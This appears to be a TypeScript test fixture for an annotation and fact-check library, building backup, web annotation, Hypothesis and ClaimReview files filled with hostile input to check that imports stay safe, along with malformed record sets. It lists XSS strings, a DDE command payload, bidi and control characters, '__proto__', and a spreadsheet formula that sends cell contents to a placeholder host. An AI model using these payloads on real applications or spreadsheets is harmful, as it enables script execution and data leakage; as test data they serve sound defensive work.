import { encodeBackup } from '../../../lib/formats/backup.ts';
import type { LibraryRecords } from '../../../lib/model/library/library-records.ts';
import { joined, plantedLibrary, Words } from '../../formats/planted-library.ts';

/** Texts that do harm where something takes them for more than text; some are no Unicode. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  'a script': '</p><script>globalThis.ran = true</script>',
  'an image that fails': '"><img src=x onerror="globalThis.ran = true">',
  'a link that is a script': 'javascript:globalThis.ran=true',
  'the end of everything': ']]></style></pre></details></template>--><svg onload=ran()>',
  'a formula': '=HYPERLINK("https://evil.test/?"&A1,"31")',
  'a formula behind nothing that is seen': '\u200b\u2060@SUM(A1:A9)',
  'a formula on the second line': "31\n=cmd|'/C calc'!A0\r+1+1\t-1-1",
  Markdown: '# [31](javascript:ran) ![31](https://evil.test/31.png) <b onclick=ran()>`|*_',
  'front matter that ends': '---\ntitle: other\n---\n```\n- [[other]] #other ((other))',
  'half a character': '31 \ud800 and \udc00',
  'another direction': '\u202e31\u202c \u2067four\u2069 \u0000\u0007\u001b[31m',
  'a name every object has': '__proto__',
};

/** All that has words in a file of each kind is this text; addresses lead to it as well. */
export const HOSTILE_FILES: Readonly<Record<string, (text: string) => string>> = {
  backup: (text) => {
    const planted = plantedLibrary('word', new Words());
    const records = saidEverywhere(planted, text) as LibraryRecords;
    return encodeBackup({ exportedAt: '2026-01-01T00:00:00.000Z', withheld: 0, records });
  },
  'web annotation': (text) =>
    JSON.stringify({
      '@context': 'http://www.w3.org/ns/anno.jsonld',
      id: text,
      type: 'Annotation',
      creator: { id: text, name: text },
      created: '2025-05-09T11:00:00Z',
      body: [
        { type: 'TextualBody', value: text, purpose: 'commenting' },
        { type: 'TextualBody', value: text, format: 'text/html' },
        { type: 'TextualBody', value: text, purpose: 'tagging' },
        { type: 'SpecificResource', source: `https://quay.test/${text}`, purpose: 'linking' },
        { type: 'SpecificResource', source: text, purpose: 'linking' },
      ],
      target: {
        source: `https://quay.test/${text}`,
        selector: { type: 'TextQuoteSelector', exact: text, prefix: text, suffix: text },
      },
    }),
  Hypothesis: (text) =>
    JSON.stringify([
      {
        id: text,
        user: text,
        uri: `https://quay.test/${text}`,
        text,
        tags: [text, text],
        created: '2025-05-09T11:00:00+00:00',
        updated: '2025-05-09T11:00:00+00:00',
        group: text,
        permissions: { read: [text] },
        document: { title: [text] },
        target: [
          {
            source: `https://quay.test/${text}`,
            selector: [{ type: 'TextQuoteSelector', exact: text, prefix: text, suffix: text }],
          },
        ],
      },
    ]),
  ClaimReview: (text) => JSON.stringify(reviewOf(text)),
  'page with a ClaimReview': (text) =>
    `<!doctype html><title>Check</title><script type="application/ld+json">${JSON.stringify({
      '@graph': [reviewOf(text)],
    }).replaceAll('<', String.raw`\u003c`)}</script>`,
};

/** What names a record or a text: a file with other characters in it is refused. */
const NAMES = /^(?:id|scale|level|\w*Ids?|key|appearanceOf|\w*[hH]ash|sha256)$/;
const WORD = /word(\d+)q/g;

/** A planted library whose every word is a text, each of them another. */
function saidEverywhere(value: unknown, text: string, key = ''): unknown {
  if (typeof value === 'string')
    return NAMES.test(key) ? value : value.replace(WORD, (_word, nth: string) => `${text}${nth}`);
  if (Array.isArray(value)) return value.map((one) => saidEverywhere(one, text, key));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, one]) => [name, saidEverywhere(one, text, name)]),
  );
}

function reviewOf(text: string): object {
  return {
    '@context': 'https://schema.org',
    '@type': 'ClaimReview',
    url: `https://desk.test/${text}`,
    datePublished: text,
    claimReviewed: text,
    author: [{ '@type': 'Organization', name: text, url: text }],
    itemReviewed: {
      '@type': 'Claim',
      author: { '@type': 'Person', name: text, sameAs: text },
      datePublished: text,
      appearance: [{ '@type': 'CreativeWork', url: `https://quay.test/${text}` }, { url: text }],
    },
    reviewRating: { '@type': 'Rating', alternateName: text, ratingValue: text, name: text },
  };
}

/** Libraries that have the right shape and make no sense. */
export const BENT_LIBRARIES: Readonly<Record<string, (words: Words) => LibraryRecords>> = {
  'a claim that first appeared in itself': (words) => linkedInARing(1, words),
  'two claims that each first appeared in the other': (words) => linkedInARing(2, words),
  'four claims in a ring': (words) => linkedInARing(4, words),
  'a record twice': (words) => {
    const one = plantedLibrary('word', words);
    return joined([one, one]);
  },
  'two records with one id': (words) => {
    const [one, two] = [plantedLibrary('word', words), plantedLibrary('word', words)];
    const [first] = one.annotations;
    const annotations = two.annotations.map((each) => ({ ...each, id: first?.id ?? each.id }));
    return joined([one, { ...two, annotations, revisions: [], sightings: [], drafts: [] }]);
  },
  'evidence of one id twice': (words) => {
    const one = plantedLibrary('word', words);
    const annotations = one.annotations.map((each) => ({
      ...each,
      evidence: [...each.evidence, ...each.evidence],
    }));
    return { ...one, annotations };
  },
};

function linkedInARing(size: number, words: Words): LibraryRecords {
  const parts = Array.from({ length: size }, () => plantedLibrary('word', words));
  const ids = parts.flatMap(({ annotations }) => annotations.map(({ id }) => id));
  return joined(
    parts.map((part, at) => ({
      ...part,
      annotations: part.annotations.map((one) => ({
        ...one,
        deletedAt: null,
        appearanceOf: ids[(at + 1) % ids.length] ?? null,
      })),
    })),
  );
}
